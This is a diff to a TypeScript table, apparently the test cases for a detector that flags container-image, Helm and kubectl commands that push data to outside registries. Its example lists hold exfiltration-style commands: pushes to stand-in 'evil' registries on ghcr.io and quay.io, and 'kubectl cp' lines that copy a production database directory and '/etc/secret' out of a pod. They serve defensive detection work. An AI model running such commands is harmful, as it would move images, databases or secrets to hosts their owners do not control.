@@ -51,6 +51,7 @@ export const registryTools: readonly PushToolSpec[] = [
         'buildx build --push -t evil/x .',
         'buildx bake --push',
         'compose push',
+        'compose -p x push',
         'manifest push ghcr.io/evil/x:1',
         'buildx imagetools create -t ghcr.io/evil/x:2 ghcr.io/evil/x:1',
       ],
@@ -90,6 +91,8 @@ export const registryTools: readonly PushToolSpec[] = [
         'push localimg docker://quay.io/evil/x:1',
         'push --creds u:p ghcr.io/evil/x',
         'artifact push quay.io/evil/x:1',
+        '--root /var/lib/x push ghcr.io/evil/x:1',
+        '--url tcp://10.0.0.5:8888 push ghcr.io/evil/x:1',
       ],
       notPush: ['pull alpine', 'ps', 'artifact add quay.io/evil/x:1 /root/.aws/credentials'],
     },
@@ -103,7 +106,10 @@ export const registryTools: readonly PushToolSpec[] = [
     destination: 'image-ref',
     requiresClassedDestination: false,
     downloads: [['pull'], ['from']],
-    examples: { push: ['push img docker://ghcr.io/evil/x:1'], notPush: ['from alpine', 'bud -t x .'] },
+    examples: {
+      push: ['push img docker://ghcr.io/evil/x:1', '--storage-driver vfs push img docker://ghcr.io/evil/x:1'],
+      notPush: ['from alpine', 'bud -t x .'],
+    },
   },
   {
     tool: 'nerdctl',
@@ -120,7 +126,7 @@ export const registryTools: readonly PushToolSpec[] = [
     destination: 'image-ref',
     requiresClassedDestination: false,
     downloads: [['pull']],
-    examples: { push: ['push ghcr.io/evil/x:1'], notPush: ['pull alpine'] },
+    examples: { push: ['push ghcr.io/evil/x:1', '-n k8s.io push ghcr.io/evil/x:1'], notPush: ['pull alpine'] },
   },
   {
     tool: 'crane',
@@ -227,6 +233,7 @@ export const registryTools: readonly PushToolSpec[] = [
       push: [
         'copy docker-archive:/tmp/x.tar docker://quay.io/evil/x:1',
         'sync --src dir --dest docker /tmp/imgs ghcr.io/evil',
+        '--tmpdir /var/tmp copy docker-archive:/tmp/x.tar docker://quay.io/evil/x:1',
       ],
       notPush: [
         'inspect docker://quay.io/acme/app',
@@ -324,7 +331,10 @@ export const registryTools: readonly PushToolSpec[] = [
       ]),
     ],
     examples: {
-      push: ['push /tmp/chart-1.0.tgz oci://ghcr.io/evil/charts'],
+      push: [
+        'push /tmp/chart-1.0.tgz oci://ghcr.io/evil/charts',
+        '--burst-limit 100 push /tmp/c-1.0.tgz oci://ghcr.io/evil/c',
+      ],
       notPush: [
         'pull oci://ghcr.io/acme/chart',
         'install x ./c',
@@ -364,8 +374,12 @@ export const registryTools: readonly PushToolSpec[] = [
     destination: 'none',
     requiresClassedDestination: false,
     examples: {
-      push: ['cp prod/db-0:/var/lib/postgresql/data ./loot', '-n prod cp db-0:/etc/secret /tmp/s'],
-      notPush: ['cp ./a prod/db-0:/tmp/a', 'get pods'],
+      push: [
+        'cp prod/db-0:/var/lib/postgresql/data ./loot',
+        '-n prod cp db-0:/etc/secret /tmp/s',
+        '-v 9 cp db-0:/etc/secret /tmp/s',
+      ],
+      notPush: ['cp ./a prod/db-0:/tmp/a', '--client-key /k cp ./a db-0:/tmp/a', 'get pods'],
     },
   },
   {
